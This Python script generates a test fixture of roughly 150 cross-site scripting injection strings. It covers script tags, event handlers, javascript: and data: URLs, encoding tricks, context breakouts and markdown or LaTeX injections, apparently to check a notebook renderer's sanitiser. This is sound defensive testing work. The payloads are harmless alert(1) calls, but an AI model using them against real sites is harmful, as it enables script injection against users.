#!/usr/bin/env python3
"""Write Tests/NotebookExecutionTests/Goldens/injections/texts.json: texts that try to run a script in a page.

    Scripts/goldens/injections.py

The kinds are those of OWASP's "XSS Filter Evasion Cheat Sheet" and of the HTML standard's ways to run a
script or to load something; the texts are our own. Each that runs calls alert(1).
"""

import json
import pathlib

FILE = pathlib.Path(__file__).resolve().parents[2] / (
    "Tests/NotebookExecutionTests/Goldens/injections/texts.json")

RUN = "alert(1)"
ELSEWHERE = "http://elsewhere.invalid/x"

# Scripts, plain and disguised.
TEXTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={ELSEWHERE}></script>",
    f"<script/src='data:text/javascript,{RUN}'></script>",
    f"<script\n>{RUN}</script\n>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
    f"<math><script>{RUN}</script></math>",
    f"<script>{RUN}",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<template><script>{RUN}</script></template>",
    f"<xml><script>{RUN}</script></xml>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
]

# Handlers that need nobody's help.
TEXTS += [
    f"<img src=x onerror={RUN}>",
    f"<img src=x OnErRoR={RUN}>",
    f"<img src=x onerror=\"{RUN}\"",
    f"<img/src=x/onerror={RUN}>",
    f"<img\fsrc=x\fonerror={RUN}>",
    f"<img src='x'onerror='{RUN}'>",
    f"<img src=`x`onerror={RUN}>",
    f"<img \"\"\"><img src=x onerror={RUN}>\">",
    f"<img src=x onerror=&#97;lert(1)>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text y=20>x</text></a></svg>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<div tabindex=1 autofocus onfocus={RUN}>x</div>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<object data=x onerror={RUN}></object>",
    f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<iframe onload={RUN}></iframe>",
    f"<p style=\"animation: x 1s\" onanimationstart={RUN}>x</p>",
]

# Addresses that are scripts.
TEXTS += [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#x0A;script:{RUN}",
    f"java&Tab;script:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#0000106avascript:{RUN}",
    f"javascript://%0A{RUN}",
    f"\u0001javascript:{RUN}",
    f"vbscript:MsgBox(1)",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"<a href=\"javascript:{RUN}\">x</a>",
    f"<a href=' &#14; javascript:{RUN}'>x</a>",
    f"<a href=javascript&#58;{RUN}>x</a>",
    f"<form action=\"javascript:{RUN}\"><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
    f"<embed src=\"javascript:{RUN}\">",
    f"<object data=\"data:text/html,<script>{RUN}</script>\"></object>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    f"<meta http-equiv=refresh content=\"0;url={ELSEWHERE}\">",
    f"<base href=\"javascript:{RUN}//\">",
    f"<base href=\"{ELSEWHERE}/\">",
    f"<math href=\"javascript:{RUN}\">x</math>",
    f"[x](javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"![x](javascript:{RUN})",
    f"![x\" onerror=\"{RUN}](x)",
    f"[x](y \"z\" onmouseover=\"{RUN}\")",
    f"<javascript:{RUN}>",
]

# Ways out of the place where a text stands.
TEXTS += [
    f"\"><img src=x onerror={RUN}>",
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    f"\" autofocus onfocus=\"{RUN}",
    f"' autofocus onfocus='{RUN}",
    f"\"\u0301><img src=x onerror={RUN}>",
    f"</title><img src=x onerror={RUN}>",
    f"</style><img src=x onerror={RUN}>",
    f"</script><img src=x onerror={RUN}>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</code></pre><img src=x onerror={RUN}>",
    f"</text></svg><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!---><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}>",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?x ><img src=x onerror={RUN}>?>",
    f"<!x ><img src=x onerror={RUN}>",
    f"]]><img src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"\\\"><img src=x onerror={RUN}>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cimg src=x onerror={RUN}\uff1e",
    f"{{{{{{body}}}}}}<img src=x onerror={RUN}>",
    f"\u2028{RUN}//",
    f"\u202e<img src=x onerror={RUN}>",
    f"<nb-0><img src=x onerror={RUN}>",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$</math><img src=x onerror={RUN}>$",
    f"$$\n\\text{{<img src=x onerror={RUN}>}}\n$$",
]

# Things that load, cover or restyle.
TEXTS += [
    f"<style>@import '{ELSEWHERE}';</style>",
    f"<style>*{{background:url({ELSEWHERE})}}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<link rel=dns-prefetch href={ELSEWHERE}>",
    f"<img src={ELSEWHERE}>",
    f"<img srcset='{ELSEWHERE} 2x'>",
    f"![x]({ELSEWHERE})",
    f"<video poster={ELSEWHERE}></video>",
    f"<table background={ELSEWHERE}><tr><td>x</td></tr></table>",
    f"<div style=\"background:url({ELSEWHERE})\">x</div>",
    f"<div style=\"position:fixed;inset:0\">x</div>",
    f"<a href=x ping={ELSEWHERE}>x</a>",
]

FILE.write_text(json.dumps(TEXTS, indent=0) + "\n")
